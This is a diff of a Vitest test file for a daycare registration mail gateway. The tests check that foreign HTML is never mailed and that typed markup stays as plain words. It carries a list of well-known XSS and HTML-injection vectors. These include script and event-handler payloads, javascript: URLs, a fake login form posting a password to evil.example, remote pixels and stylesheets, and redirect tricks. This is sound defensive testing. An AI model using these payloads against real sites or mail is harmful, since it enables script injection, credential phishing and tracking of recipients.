@@ -1,8 +1,9 @@
 // @vitest-environment jsdom
 // Which HTML is mailed to the daycare: that of the site's own registration letter, composed again word for word, and no other (REQ M38).
-import { expect, test } from 'vitest';
+import { expect, onTestFinished, test } from 'vitest';
 
-import { foreignSubjectPrefix } from '#gateway/letters/policy.ts';
+import { createPolicy, foreignSubjectPrefix } from '#gateway/letters/policy.ts';
+import { createTtlStore } from '#gateway/ttl-store.ts';
 import { limits } from '#mail/contract.ts';
 import { registrationReport } from '#mail/registration-report.ts';
 
@@ -21,127 +22,115 @@ test('our own letter keeps every word and every colour', async () => {
   expect(treeOf(String(mail?.html))).toBe(treeOf(report.html!));
 });
 
-/** Vectors of the well-known collections (OWASP, PortSwigger, html5sec), and tricks that need no script. */
+/** One vector of each kind in the well-known collections (OWASP, PortSwigger, html5sec), and tricks that need no script. */
 const vectors = String.raw`
 <script>alert(1)</script>
-<SCRIPT SRC=//evil.example/x.js></SCRIPT>
-<script/src=data:,alert(1)>
 <scr<script>ipt>alert(1)</scr</script>ipt>
 <svg/onload=alert(1)>
-<svg><script>alert(1)</script></svg>
-<svg><animate onbegin=alert(1) attributeName=x dur=1s>
-<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x">
-<svg><a xlink:href="javascript:alert(1)"><text>go</text></a></svg>
 <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
-<math href="javascript:alert(1)">CLICK</math>
 <img src=x onerror=alert(1)>
 <img src="https://evil.example/pixel.gif">
-<img srcset="https://evil.example/a 1x">
 <IMG """><SCRIPT>alert(1)</SCRIPT>">
-<img src=x:alert(1) onerror=eval(src)>
-<picture><source srcset="https://evil.example/x"></picture>
-<video src="https://evil.example/x" poster="https://evil.example/y" onloadstart=alert(1)></video>
-<audio src=x onerror=alert(1)>
 <body onload=alert(1)>
-<body background="https://evil.example/x">
-<table background="https://evil.example/x"><td background="https://evil.example/y">x</td></table>
-<iframe src="javascript:alert(1)"></iframe>
 <iframe srcdoc="<script>alert(1)</script>"></iframe>
-<frameset><frame src="https://evil.example"></frameset>
-<object data="javascript:alert(1)"></object>
-<embed src="https://evil.example/x.swf">
-<applet code="x"></applet>
 <form action="https://evil.example"><input name=password><button formaction="https://evil.example">Log in</button></form>
-<isindex action="javascript:alert(1)">
-<select onfocus=alert(1) autofocus><option>x</select>
-<textarea autofocus onfocus=alert(1)>x</textarea>
 <details open ontoggle=alert(1)><summary>x</summary></details>
-<marquee onstart=alert(1)>x</marquee>
-<dialog open onclose=alert(1)>x</dialog>
-<div onmouseover="alert(1)">x</div>
 <p onclick=alert&#40;1&#41;>x</p>
 <div style="background:url(https://evil.example/x)">x</div>
-<div style="background:url('javascript:alert(1)')">x</div>
-<div style="width:expression(alert(1))">x</div>
-<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>
-<div style="behavior:url(x.htc)">x</div>
 <div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Log in again</div>
 <div style="display:none">hidden words</div>
-<div style="color:#FFFDF9;font-size:1px">hidden words</div>
-<div style="font-size:0">hidden words</div>
-<p style="margin:0 0 16px;position:fixed">x</p>
 <p style="margin:0 0 16px ">x</p>
 <style>*{display:none}</style>
-<style>@import 'https://evil.example/x.css';</style>
 <link rel=stylesheet href="https://evil.example/x.css">
-<link rel=prefetch href="https://evil.example/x">
 <meta http-equiv=refresh content="0;url=https://evil.example">
-<meta name=referrer content=unsafe-url>
 <base href="https://evil.example/">
-<a href="javascript:alert(1)">go</a>
-<a href="JaVaScRiPt:alert(1)">go</a>
 <a href="java&#9;script:alert(1)">go</a>
-<a href="&#106;avascript:alert(1)">go</a>
-<a href=" &#14; javascript:alert(1)">go</a>
 <a href="data:text/html,<script>alert(1)</script>">go</a>
-<a href="vbscript:msgbox(1)">go</a>
-<a href="//evil.example">info@prairielantern.example</a>
 <a href="https://evil.example">https://www.alberta.ca/child-care</a>
 <a href="mailto:evil@evil.example?subject=x">Reply to the parent</a>
-<a href="tel:+19005550000">403-555-0167</a>
-<area href="https://evil.example">
-<map name=x><area shape=rect coords=0,0,9,9 href="https://evil.example"></map>
-<button onclick=alert(1)>x</button>
-<x onclick=alert(1) style="x">x</x>
-<template><script>alert(1)</script></template>
 <noscript><p title="</noscript><img src=x onerror=alert(1)>">
 <xmp><p title="</xmp><svg/onload=alert(1)>">
 <plaintext><script>alert(1)
 <title><img src=x onerror=alert(1)></title>
 <!--><script>alert(1)</script>-->
-<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
 <![CDATA[<script>alert(1)</script>]]>
 <?xml version="1.0"?><script>alert(1)</script>
-<div id=x name=y class=z data-x=1 contenteditable accesskey=x>x</div>
-<p dir=rtl lang="x" onfocus=alert(1) tabindex=1>x</p>
-<time datetime="x" onclick=alert(1)>x</time>
-<th scope="row" onclick=alert(1)>x</th>
 <p/onclick=alert(1)/style="color:red">x</p>
 <<p onclick=alert(1)//<p>
-<p style="color:red" style="margin:0">x</p>
 </p style="x" onclick=alert(1)>
 `
   .trim()
   .split('\n');
 
-test.each(vectors)('%s leaves no script, handler, style trick, form, remote picture or link', async (vector) => {
-  const gateway = await openGateway();
-  for (const [index, html] of [
-    vector,
-    `<table><tr><td>${vector}</td></tr></table>`,
-    report.html!.replace('</h1>', `</h1>${vector}`),
-  ].entries())
-    expect((await gateway.send({ ...report, message: `Number ${index}`, html })).statusCode).toBe(200);
-  const mails = await gateway.mails();
-  expect(mails).toHaveLength(3);
-  for (const mail of mails) {
-    expect(mail.html).toBe(false);
-    expect(mail.subject).toBe(`${foreignSubjectPrefix} ${report.subject}`);
-    expect(mail.attachments).toEqual([]);
+/** What the policy makes of a letter: the HTML that would be mailed, and the subject. */
+function judged(letter: object) {
+  const ttlStore = createTtlStore();
+  onTestFinished(() => ttlStore.close());
+  const policy = createPolicy(provider, () => now, ttlStore, { digest: (text) => text, grants: [] });
+  return async (change: object) => {
+    const verdict = await policy.judge({ ...letter, ...change }, 'a visitor');
+    if ('refusal' in verdict) throw new Error(verdict.refusal.message);
+    return verdict.draft;
+  };
+}
+
+test('HTML with anything in it that our own code did not compose is never mailed', async () => {
+  const draftOf = judged(report);
+  expect((await draftOf({})).html).toBe(report.html);
+  for (const vector of vectors)
+    for (const html of [
+      vector,
+      `<table><tr><td>${vector}</td></tr></table>`,
+      report.html!.replace('</h1>', `</h1>${vector}`),
+    ]) {
+      const draft = await draftOf({ html });
+      expect(draft.html, html).toBeUndefined();
+      expect(draft.subject).toBe(`${foreignSubjectPrefix} ${report.subject}`);
+    }
+});
+
+const elementsOf = (html: string) =>
+  [...new DOMParser().parseFromString(html, 'text/html').querySelectorAll('*')].map((element) =>
+    [element.localName, ...[...element.attributes].map(({ name, value }) => `${name}=${value}`)].join(' '),
+  );
+
+test('markup typed into every field stays words in our own letter', async () => {
+  const expected = elementsOf(
+    registrationReport(
+      provider,
+      filled(() => 'x'),
+      now,
+    ).html!,
+  );
+  for (const vector of vectors) {
+    const letter = registrationReport(provider, { ...filled(() => vector.slice(0, 60)), note: vector }, now);
+    const { html } = await judged(letter)({});
+    expect(elementsOf(String(html)), vector).toEqual(expected);
   }
 });
 
-test.each(vectors)('%s typed into every field stays words in our own letter', async (vector) => {
+test('over the wire too, foreign HTML is left out and typed markup stays words', async () => {
   const gateway = await openGateway();
-  const plain = filled(() => 'x');
-  const typed = { ...filled(() => vector.slice(0, 60)), note: vector };
-  expect((await gateway.send(registrationReport(provider, typed, now))).statusCode).toBe(200);
-  const [mail] = await gateway.mails();
-  const elementsOf = (html: string) =>
-    [...new DOMParser().parseFromString(html, 'text/html').querySelectorAll('*')].map((element) =>
-      [element.localName, ...[...element.attributes].map(({ name, value }) => `${name}=${value}`)].join(' '),
-    );
-  expect(elementsOf(String(mail?.html))).toEqual(elementsOf(registrationReport(provider, plain, now).html!));
+  const html = report.html!.replace('</h1>', '</h1><script>alert(1)</script>');
+  const typed = registrationReport(
+    provider,
+    filled(() => '<img src=x onerror=alert(1)>'),
+    now,
+  );
+  for (const letter of [{ ...report, html }, typed]) expect((await gateway.send(letter)).statusCode).toBe(200);
+  const mails = await gateway.mails();
+  const foreign = mails.find(({ subject }) => subject?.startsWith(foreignSubjectPrefix));
+  expect([foreign?.html, foreign?.attachments]).toEqual([false, []]);
+  const own = mails.find((mail) => mail !== foreign);
+  expect(elementsOf(String(own?.html))).toEqual(
+    elementsOf(
+      registrationReport(
+        provider,
+        filled(() => 'x'),
+        now,
+      ).html!,
+    ),
+  );
 });
 
 test('mail that was not composed by the forms of the site keeps its words, says so first in its subject, and has nobody to reply to', async () => {
